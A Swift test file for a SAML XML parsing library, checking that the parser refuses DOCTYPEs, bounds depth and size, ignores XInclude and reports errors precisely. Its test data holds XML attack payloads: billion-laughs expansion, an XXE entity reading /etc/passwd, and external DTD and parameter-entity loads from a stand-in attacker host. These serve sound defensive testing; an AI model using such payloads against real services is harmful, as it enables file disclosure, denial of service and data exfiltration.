import Foundation
@testable import SAMLXML
import Testing

@Suite("Secure XML parsing")
struct ParserTests {
    static let doctypeAttacks: [(String, Int)] = [
        // billion laughs
        ("""
        <?xml version="1.0"?>
        <!DOCTYPE lolz [
         <!ENTITY lol "lol">
         <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
         <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
         <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
        ]>
        <lolz>&lol9;</lolz>
        """, 2),
        // external entity (XXE)
        ("<?xml version=\"1.0\"?>\n<!-- c -->\n<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>", 3),
        // external DTD
        ("<!DOCTYPE r SYSTEM \"http://attacker.invalid/x.dtd\"><r/>", 1),
        // parameter entities
        ("<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.invalid/p.dtd\"> %p;]><r/>", 2),
    ]

    @Test("DOCTYPE is refused with its line", arguments: doctypeAttacks)
    func refusesDoctype(_ attack: (String, Int)) {
        let start = Date()
        do {
            _ = try XMLDocument.parse(Array(attack.0.utf8))
            Issue.record("parsed a DOCTYPE")
        } catch {
            #expect(error == .doctypeRefused(line: attack.1, column: 1))
        }
        #expect(Date().timeIntervalSince(start) < 5, "a refused DOCTYPE must not be expanded: this bound catches a hang, it is not a benchmark")
    }

    @Test func malformedReportsTheFirstError() {
        let text = "<a>\n  <b>\n  </c>\n</a>"
        #expect(throws: XMLParseError.self) { try XMLDocument.parse(Array(text.utf8)) }
        do { _ = try XMLDocument.parse(Array(text.utf8)) } catch {
            guard case let .malformed(message, line, _) = error else { Issue.record("wrong error \(error)"); return }
            #expect(line == 3)
            #expect(message.contains("mismatch"), "\(message)")
        }
    }

    @Test func startTagLocationsAreExact() throws {
        let text = "<r>\n  <a\n     x='1'\n     y='2'>t</a>\n  <é/><b/>\n</r>"
        let document = try XMLDocument.parse(Array(text.utf8))
        let root = try #require(document.root)
        let children = root.children
        #expect(children.count == 3)
        #expect(children[0].position == (2, 3))
        #expect(children[1].position == (5, 3))
        #expect(children[2].position == (5, 7))
    }

    /// A reused parser context (streamed aggregate pieces) gives the same documents and errors as
    /// a fresh one, also right after a refused DOCTYPE, a too-deep piece and a malformed one.
    @Test func reusedParserMatchesAFreshOne() throws {
        let good = "<r xmlns='urn:x'>\n  <a\n     x='1'>t</a>\n  <é/><b y='&amp;'/>\n</r>"
        let inputs = [
            good, "<a>\n  <b>\n  </c>\n</a>", good, Self.doctypeAttacks[0].0, good,
            String(repeating: "<d>", count: 200) + String(repeating: "</d>", count: 200), good, "   ", good,
        ]
        for _ in 0..<3 {
            for text in inputs {
                let bytes = Array(text.utf8)
                let fresh = Result { () throws(XMLParseError) in try XMLDocument.parse(bytes) }
                let reused = Result { () throws(XMLParseError) in try XMLDocument.parse(bytes, sourceMap: nil, reuseParser: true) }
                switch (fresh, reused) {
                case let (.success(a), .success(b)):
                    let (x, y) = (try #require(a.root), try #require(b.root))
                    #expect(x.children.map { [$0.line, $0.column] } == y.children.map { [$0.line, $0.column] })
                    #expect(x.children.map { $0.localName } == y.children.map { $0.localName })
                    #expect(x.children.last?.attribute("y") == y.children.last?.attribute("y"))
                    #expect(y.children.last?.attribute("y") == "&")
                case let (.failure(a), .failure(b)): #expect(a == b)
                default: Issue.record("fresh and reused parsers disagree on \(text.prefix(20))")
                }
            }
        }
    }

    @Test func deepNestingIsBounded() {
        let depth = 100_000
        let text = String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth)
        let start = Date()
        #expect(throws: XMLParseError.self) { try XMLDocument.parse(Array(text.utf8)) }
        #expect(Date().timeIntervalSince(start) < 10, "bounded depth: this catches a hang, it is not a benchmark")
    }

    @Test func xincludeIsNotProcessed() throws {
        let text = "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\" parse=\"text\"/></r>"
        let document = try XMLDocument.parse(Array(text.utf8))
        #expect(document.root?.textContent == "")
        #expect(document.root?.children.first?.localName == "include")
    }

    @Test func sizeIsBounded() {
        let text = "<r>" + String(repeating: "x", count: 2000) + "</r>"
        #expect(throws: XMLParseError.tooLarge(bytes: 2007, limit: 1000)) {
            try XMLDocument.parse(Array(text.utf8), limits: XMLParseLimits(maxBytes: 1000))
        }
    }

    @Test func commentSplitTextIsSeen() throws {
        let document = try XMLDocument.parse(Array("<n>admin@example.com<!---->.evil.com</n>".utf8))
        let root = try #require(document.root)
        #expect(root.containsCommentOrPI)
        #expect(root.textContent == "admin@example.com.evil.com")
    }

    @Test func xpathWithSAMLPrefixes() throws {
        let text = "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"><saml:Issuer>x</saml:Issuer></samlp:Response>"
        let document = try XMLDocument.parse(Array(text.utf8))
        let issuers = document.select("/samlp:Response/saml:Issuer")
        #expect(issuers.map(\.textContent) == ["x"])
        #expect(issuers.first?.readablePath == "Response/Issuer")
    }
}

@Suite("C module")
struct ShimTests {
    /// SwiftPM drops pkg-config's -D flags; shim.h repeats them. They must agree.
    @Test func shimRepeatsEveryPkgConfigDefine() throws {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/pkg-config")
        process.arguments = ["--cflags", "xmlsec1-openssl"]
        let pipe = Pipe()
        process.standardOutput = pipe
        try process.run()
        process.waitUntilExit()
        let flags = String(decoding: pipe.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        let defines = flags.split(separator: " ").filter { $0.hasPrefix("-D") }.map {
            String($0.dropFirst(2).split(separator: "=").first ?? "")
        }
        #expect(!defines.isEmpty)
        let shim = try String(
            contentsOf: URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
                .deletingLastPathComponent().appendingPathComponent("Sources/CLibXMLSec/shim.h"), encoding: .utf8)
        for define in defines {
            #expect(shim.contains("#define \(define) "), "shim.h lacks \(define)")
        }
    }

    /// The one-walk search of several names gives each name's `descendants` list.
    @Test(arguments: ["xsw1.xml", "xsw3.xml", "xsw6.xml", "second-assertion.xml", "encrypted-response-signed.xml", "valid-both-signed.xml"])
    func descendantsOfSeveralNamesInOneWalk(_ fixture: String) throws {
        let url = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("fixtures/signature/\(fixture)")
        let document = try XMLDocument.parse(Array(try Data(contentsOf: url)))
        let root = try #require(document.root)
        let names: [(localName: String, namespace: String)] = [
            ("Signature", "http://www.w3.org/2000/09/xmldsig#"), ("Assertion", "urn:oasis:names:tc:SAML:2.0:assertion"),
            ("EncryptedAssertion", "urn:oasis:names:tc:SAML:2.0:assertion"), ("Response", "urn:oasis:names:tc:SAML:2.0:protocol"),
            ("Nothing", "urn:none"),
        ]
        let together = root.descendants(names)
        #expect(together.count == names.count)
        for (index, name) in names.enumerated() {
            #expect(together[index] == root.descendants(name.localName, namespace: name.namespace), "\(name.localName)")
        }
        #expect(!together[0].isEmpty && !together[1].isEmpty || !together[2].isEmpty)
    }
}

/// The ID attribute test on an attribute's bytes agrees with the list of ID names.
@Suite("SAML ID names")
struct SAMLIDNameTests {
    @Test(arguments: ["ID", "Id", "id", "iD", "IDx", "I", "", "AssertionID", "AssertionId", "AssertionIDs", "ResponseID", "ResponseIDs",
                      "Response", "A", "R", "IdP", "ID ", "Assertion", "XID", "ResponseId"])
    func bytesAgreeWithTheList(_ name: String) {
        let bytes = Array(name.utf8) + [0]
        let fast = bytes.withUnsafeBufferPointer { SAMLIDs.isIDName($0.baseAddress!) }
        #expect(fast == SAMLIDs.attributeNames.contains(name))
    }
}
